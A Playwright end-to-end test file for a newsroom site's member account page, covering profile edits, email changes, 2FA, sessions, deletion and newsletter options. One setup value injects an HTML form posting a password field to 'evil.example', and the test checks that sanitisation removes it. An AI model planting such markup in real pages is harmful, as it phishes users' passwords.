import { type Page, request } from '@playwright/test'
import { addAccount, ageSessions, codeOf, openAccount, password } from './support/account.ts'
import { linkIn } from './support/inbox.ts'
import type { RunningServer } from './support/server.ts'
import { admin, endSessionAt, enter, expect, expectAccessible, test } from './support/test.ts'

const field = (page: Page, name: RegExp) => page.getByRole('textbox', { name })
const toast = (page: Page, title: string) => page.getByRole('region', { name: 'Notifications' }).getByText(title)

/** What the newsroom asks of its members; shared by the worker's tests, so it is taken back after each. */
async function offer(server: RunningServer, data: object) {
  const desk = await request.newContext({
    baseURL: server.url,
    extraHTTPHeaders: { 'X-Requested-With': 'XMLHttpRequest' },
  })
  await desk.post('/api/1.0/auth/login', { data: admin })
  const answer = await desk.patch('/api/1.0/content/join/setup', { data })
  expect(answer.ok(), await answer.text()).toBe(true)
  await desk.dispose()
}

test('J14: what somebody changes is saved, or taken back, and never lost on the way out', async ({
  page,
  server,
  someone,
}) => {
  await openAccount(page, server, someone)
  await expectAccessible(page)
  const bar = page.getByRole('region', { name: 'Save changes' })
  await expect(bar).toBeHidden()

  await field(page, /^Last name/).fill('Harbour')
  await expect(bar).toBeVisible()
  await bar.getByRole('button', { name: 'Cancel' }).click()
  await expect(field(page, /^Last name/)).toHaveValue('Quay')
  await expect(bar).toBeHidden()

  await field(page, /^Last name/).fill('Harbour')
  await field(page, /^Phone number/).fill('12')
  await bar.getByRole('button', { name: 'Save changes' }).click()
  await expect(field(page, /^Phone number/)).toBeFocused()
  await expect(field(page, /^Phone number/)).toHaveAccessibleDescription(/5 to 15 digits/)
  await expectAccessible(page)
  await field(page, /^Phone number/).fill('+44 1632 960118')
  await bar.getByRole('button', { name: 'Save changes' }).click()
  await expect(toast(page, 'Saved!')).toBeVisible()
  await expect(bar).toBeHidden()

  await page.reload()
  await expect(field(page, /^Last name/)).toHaveValue('Harbour')
  await expect(field(page, /^Phone number/)).toHaveValue('+441632960118')

  await field(page, /^First name/).fill('Zoe')
  await page.getByRole('link', { name: 'Home' }).first().click()
  await page.getByRole('alertdialog').getByRole('button', { name: 'Stay' }).click()
  await expect(field(page, /^First name/)).toHaveValue('Zoe')
  await page.getByRole('link', { name: 'Home' }).first().click()
  await page.getByRole('alertdialog').getByRole('button', { name: 'Discard' }).click()
  await expect(page.getByRole('heading', { name: 'Hello, Ada' })).toBeVisible()
})

test('a new email address waits for its link, can be taken back, and counts once the link is opened', async ({
  page,
  server,
  inbox,
  someone,
}) => {
  await openAccount(page, server, someone)
  const first = `first-${someone}`
  const second = `second-${someone}`
  const change = async (email: string) => {
    await field(page, /^Email/).fill(email)
    await page.getByRole('button', { name: 'Save changes' }).click()
    await expect(page.getByText('Your new email address isn’t confirmed yet.')).toBeVisible()
  }

  // An address that somebody else has looks like any other: only a mail tells, and to that address.
  await change('mara@harbourpost.test')
  await expect(field(page, /^Email/)).toHaveValue(someone)
  await page.reload()
  await expect(page.getByText('mara@harbourpost.test')).toBeVisible()

  await change(first)
  await expect(field(page, /^Email/)).toHaveValue(someone)
  await expectAccessible(page)
  const old = linkIn(await inbox.next(first), '/auth/confirm-email-change/')
  await page.getByRole('button', { name: 'Cancel change' }).click()
  await expect(page.getByText('Your new email address isn’t confirmed yet.')).toBeHidden()

  await change(second)
  await page.goto(linkIn(await inbox.next(second), '/auth/confirm-email-change/'))
  await expect(page.getByRole('heading', { name: 'Your new email address is confirmed' })).toBeVisible()
  await expect(page).toHaveTitle(/^Confirm email - /)
  await expectAccessible(page)
  await page.getByRole('link', { name: 'Go to your account' }).click()
  await expect(field(page, /^Email/)).toHaveValue(second)
  expect(old).toContain('/auth/confirm-email-change/')
})

test.describe('refusals', () => {
  test.use({ complaintsExpected: true })

  test('J33: who is logged out meanwhile logs in again and finds what was typed', { tag: '@themes' }, async ({
    page,
    server,
    someone,
  }) => {
    await openAccount(page, server, someone)
    await field(page, /^Last name/).fill('Harbour')
    await endSessionAt(page, /\/contact\/me$/)
    await page.getByRole('button', { name: 'Save changes' }).click()
    await expect(page).toHaveURL(/\/auth\/login\?next=%2Fprofile%2Faccount/)
    // The page before has a field of that name, too.
    await expect(page.getByRole('heading', { name: 'Account', level: 1 })).toBeHidden()
    await expectAccessible(page)
    await field(page, /^Email/).fill(someone)
    await page.getByLabel(/^Password/).fill(password)
    await page.getByRole('button', { name: 'Log in' }).click()
    await expect(field(page, /^Last name/)).toHaveValue('Harbour')
    await expectAccessible(page)
    await page.getByRole('button', { name: 'Save changes' }).click()
    await expect(toast(page, 'Saved!')).toBeVisible()
  })

  test('a link to a new address that no longer works says so', async ({ page }) => {
    await page.goto('/auth/confirm-email-change/6f1f2a3c-1111-4111-8111-000000000000')
    await expect(page.getByRole('heading', { name: 'This link no longer works' })).toBeVisible()
    await expectAccessible(page)
  })

  test('a new address that somebody else took meanwhile is not taken from them', async ({
    page,
    server,
    inbox,
    someone,
  }) => {
    await openAccount(page, server, someone)
    const wanted = `wanted-${someone}`
    await field(page, /^Email/).fill(wanted)
    await page.getByRole('button', { name: 'Save changes' }).click()
    const link = linkIn(await inbox.next(wanted), '/auth/confirm-email-change/')
    await addAccount(server, wanted)
    await page.goto(link)
    await expect(page.getByRole('heading', { name: 'Another account uses this address' })).toBeVisible()
    await expectAccessible(page)
  })

  test('J15: 2FA is turned on with a key and a code, and off with a code', async ({ page, server, someone }) => {
    // Several pages, each read by axe.
    test.slow()
    await openAccount(page, server, someone)
    await page.getByRole('button', { name: 'Enable' }).click()
    const dialog = page.getByRole('dialog', { name: /Turn on 2FA/ })
    await expect(dialog.getByRole('img', { name: 'QR code for your authenticator app' })).toBeVisible()
    await expect(dialog.locator('code')).toBeHidden()
    await dialog.getByText('Use a setup key instead').click()
    await expect(dialog.locator('code')).toHaveText(/^([A-Z2-7]{4} ){7}[A-Z2-7]{4}$/)
    const key = (await dialog.locator('code').textContent()) ?? ''
    const totp = codeOf(key.replaceAll(' ', ''))
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
    await dialog.getByRole('button', { name: /^Copy/ }).click()
    await expect(dialog.getByRole('button', { name: /^Copied/ })).toBeVisible()
    await expectAccessible(page)

    await dialog.getByRole('button', { name: 'Next' }).click()
    await dialog.getByRole('button', { name: 'Back' }).click()
    await dialog.getByText('Use a setup key instead').click()
    await expect(dialog.locator('code')).toHaveText(key)
    await dialog.getByRole('button', { name: 'Next' }).click()
    await expectAccessible(page)

    const wrong = totp.generate() === '000000' ? '000001' : '000000'
    await field(page, /^Code/).fill(wrong)
    await dialog.getByRole('button', { name: 'Confirm' }).click()
    await expect(field(page, /^Code/)).toHaveAccessibleDescription(/Invalid 2FA token/)
    await expect(dialog.getByText('Fix the fields marked above.')).toBeVisible()
    await expect(field(page, /^Code/)).toBeFocused()
    await field(page, /^Code/).fill(totp.generate())
    await dialog.getByRole('button', { name: 'Confirm' }).click()

    const codes = page.getByRole('dialog', { name: 'Your recovery codes' })
    await expect(codes.getByRole('listitem')).toHaveCount(10)
    await expect(codes.getByRole('listitem').first()).toHaveText(/^[a-z2-9]{5}-[a-z2-9]{5}$/)
    await expectAccessible(page)
    await page.keyboard.press('Escape')
    await expect(codes).toBeVisible()
    const download = page.waitForEvent('download')
    await codes.getByRole('button', { name: 'Download' }).click()
    expect((await download).suggestedFilename()).toBe('recovery-codes.txt')
    await codes.getByRole('button', { name: 'I’ve saved them' }).click()
    await expect(page.getByRole('button', { name: 'Disable' })).toBeFocused()
    await expect(toast(page, '2FA is on')).toBeVisible()

    await page.getByRole('button', { name: 'Disable' }).click()
    const off = page.getByRole('dialog', { name: 'Turn off 2FA?' })
    await expectAccessible(page)
    await off.getByRole('button', { name: 'Turn off 2FA' }).click()
    await expect(field(page, /^Code/)).toHaveAccessibleDescription(/Code is required/)
    await field(page, /^Code/).fill(totp.generate({ timestamp: Date.now() + 30_000 }))
    await off.getByRole('button', { name: 'Turn off 2FA' }).click()
    await expect(page.getByRole('button', { name: 'Enable' })).toBeFocused()
  })

  test('the account is deleted with the password, and is gone', async ({ page, server, inbox, someone }) => {
    await openAccount(page, server, someone)
    await page.getByRole('button', { name: 'Delete my account' }).click()
    const dialog = page.getByRole('dialog', { name: 'Delete your account?' })
    await expect(dialog.getByRole('button', { name: 'Keep my account' })).toBeFocused()
    await expectAccessible(page)
    const own = dialog.getByRole('textbox', { name: /^Password/ })
    await own.fill('Wrongpass1')
    await dialog.getByRole('button', { name: 'Delete my account' }).click()
    await expect(own).toHaveAccessibleDescription(/Invalid password/)
    await own.fill(password)
    await dialog.getByRole('button', { name: 'Delete my account' }).click()
    await expect(page).toHaveURL(/\/auth\/login$/)
    await expect(toast(page, 'Your account has been deleted')).toBeVisible()
    await inbox.next(someone)

    await field(page, /^Email/).fill(someone)
    await page.getByLabel(/^Password/).fill(password)
    await page.getByRole('button', { name: 'Log in' }).click()
    await expect(page.getByText('Invalid password/email combination')).toBeVisible()
  })
})

test('J15: the whole of 2FA can be set up by keyboard alone @desk', async ({ page, server, someone }) => {
  await openAccount(page, server, someone)
  await page.getByRole('button', { name: 'Enable' }).focus()
  await page.keyboard.press('Enter')
  await page.keyboard.press('Tab')
  await page.keyboard.press('Enter')
  const secret = ((await page.getByRole('dialog').locator('code').textContent()) ?? '').replaceAll(' ', '')
  await page.keyboard.press('Tab')
  await page.keyboard.press('Tab')
  await page.keyboard.press('Tab')
  await expect(page.getByRole('button', { name: 'Next' })).toBeFocused()
  await page.keyboard.press('Enter')
  await expect(field(page, /^Code/)).toBeFocused()
  await page.keyboard.type(codeOf(secret).generate())
  await page.keyboard.press('Enter')
  await expect(page.getByRole('button', { name: 'I’ve saved them' })).toBeFocused()
  await page.keyboard.press('Enter')
  await expect(page.getByRole('button', { name: 'Disable' })).toBeFocused()
})

test.describe('a password that is asked for again', () => {
  test.use({ complaintsExpected: true })

  test('a new password keeps this session and ends the others', async ({ page, server, browser, someone }) => {
    await openAccount(page, server, someone)
    const elsewhere = await browser.newContext({ baseURL: server.url })
    await enter(await elsewhere.newPage(), { email: someone, password })
    await page.reload()
    const sessions = page.getByRole('region', { name: 'Where you’re logged in' })
    await expect(sessions.getByRole('listitem')).toHaveCount(2)
    await expect(sessions.getByRole('listitem').first()).toContainText('This device')

    await page.getByLabel(/^New password/).fill('Breakwater2')
    await page.getByLabel(/^Repeat new password/).fill('Breakwater3')
    await page.getByRole('button', { name: 'Change password' }).click()
    await expect(page.getByLabel(/^Repeat new password/)).toHaveAccessibleDescription(/The passwords don’t match/)
    await page.getByLabel(/^Repeat new password/).fill('Breakwater2')
    await ageSessions(server)
    await page.getByRole('button', { name: 'Change password' }).click()
    const asked = page.getByRole('dialog', { name: 'Confirm it’s you' })
    await expect(asked.getByLabel(/^Current password/)).toBeFocused()
    await expectAccessible(page)
    await page.keyboard.type('Wrongpass1')
    await page.keyboard.press('Enter')
    await expect(asked.getByLabel(/^Current password/)).toHaveAccessibleDescription(/Invalid password/)
    await page.keyboard.press('Escape')
    await expect(page.getByText('Nothing was changed. Confirm your password to make this change.')).toBeVisible()
    await page.getByRole('button', { name: 'Change password' }).click()
    await expect(asked.getByLabel(/^Current password/)).toBeFocused()
    await page.keyboard.type(password)
    await page.keyboard.press('Enter')
    await expect(toast(page, 'Password changed')).toBeVisible()
    await expect(page.getByLabel(/^New password/)).toHaveValue('')
    await expect(sessions.getByRole('listitem')).toHaveCount(1)
    await elsewhere.close()
  })
})

test('somebody logged in twice ends the other session from the list', async ({ page, server, browser, someone }) => {
  await openAccount(page, server, someone)
  const elsewhere = await browser.newContext({ baseURL: server.url })
  await enter(await elsewhere.newPage(), { email: someone, password })
  await page.reload()
  const sessions = page.getByRole('region', { name: 'Where you’re logged in' })
  await sessions.getByRole('button', { name: /^Log out [^e]/ }).click()
  await expect(sessions.getByRole('listitem')).toHaveCount(1)
  await expect(toast(page, 'That device is logged out')).toBeVisible()

  await enter(await elsewhere.newPage(), { email: someone, password })
  await page.reload()
  await sessions.getByRole('button', { name: /^Log out everywhere else/ }).click()
  await expect(sessions.getByRole('listitem')).toHaveCount(1)
  await expect(sessions.getByRole('button', { name: /^Log out/ })).toHaveCount(0)
  await elsewhere.close()
})

test('somebody who is no member is not called one', async ({ page, server, someone }, { project }) => {
  await addAccount(server, someone, 'none')
  await enter(page, { email: someone, password })
  await page.goto('/profile')
  await expect(page.getByText('Account created')).toBeVisible()
  if (project.name === 'phone') await page.getByRole('button', { name: /^More/ }).click()
  await expect(page.getByRole('button', { name: 'Log out', exact: true })).toBeVisible()
  await expect(page.getByText(/^Member since/)).toHaveCount(0)
  await expectAccessible(page)
})

test.describe('where the newsroom sends post and newsletters', () => {
  test.beforeEach(({ server }) =>
    offer(server, {
      showMailOptIn: true,
      mailOptIn: 'Send me the print edition',
      mailText: '<p>Printed on <strong>Thursdays</strong>.</p>',
      showNewsletterOptIn: true,
      newsletterText:
        '<p>Every <em>Saturday</em>.</p><form action="https://evil.example"><input type="password" name="p"></form>',
      newsletterGroups: [
        { id: 'daily', label: 'Harbour Daily', checked: false },
        { id: 'weekend', label: 'Weekend', checked: false },
      ],
    }),
  )
  test.afterEach(({ server }) =>
    offer(server, {
      ...{ showMailOptIn: false, mailOptIn: '', mailText: '' },
      ...{ showNewsletterOptIn: false, newsletterText: '', newsletterGroups: [] },
    }),
  )

  test('an address is asked for only with the post, and newsletters come and go', async ({ page, server, someone }) => {
    await openAccount(page, server, someone)
    await expect(page.getByText('Printed on Thursdays.').locator('strong')).toHaveText('Thursdays')
    await page.getByRole('checkbox', { name: 'Send me the print edition' }).check()
    await page.getByRole('button', { name: 'Save changes' }).click()
    await expect(field(page, /^Postcode/)).toHaveAccessibleDescription(/Postcode is required/)
    await expect(field(page, /^Address line 1/)).toBeFocused()
    await field(page, /^Address line 1/).fill('14 Ropewalk Lane')
    await field(page, /^City/).fill('Saltmere')
    await field(page, /^Postcode/).fill('SM2 4QT')
    await page.getByRole('button', { name: 'Save changes' }).click()
    await expect(toast(page, 'Saved!')).toBeVisible()

    const newsletters = page.getByRole('region', { name: 'Newsletter' })
    await expect(newsletters).toContainText('You don’t get the newsletter.')
    await expect(newsletters.getByText('Every Saturday.').locator('em')).toHaveText('Saturday')
    await expect(newsletters.locator('[type=password]')).toHaveCount(0)
    await newsletters.getByRole('checkbox', { name: 'Weekend' }).check()
    await newsletters.getByRole('button', { name: 'Save newsletters' }).click()
    await expect(newsletters).toContainText('You get the newsletter.')
    await expectAccessible(page)

    await page.reload()
    await expect(field(page, /^Postcode/)).toHaveValue('SM2 4QT')
    await expect(newsletters.getByRole('checkbox', { name: 'Weekend' })).toBeChecked()
    await newsletters.getByRole('checkbox', { name: 'Weekend' }).uncheck()
    await newsletters.getByRole('button', { name: 'Save newsletters' }).click()
    await expect(newsletters).toContainText('You’ve unsubscribed from the newsletter.')
  })
})

test('everything held about somebody comes as one file', async ({ page, server, someone }) => {
  await openAccount(page, server, someone)
  const download = page.waitForEvent('download')
  await page.getByRole('link', { name: 'Download my data' }).click()
  expect((await download).suggestedFilename()).toMatch(/\.zip$/)
})
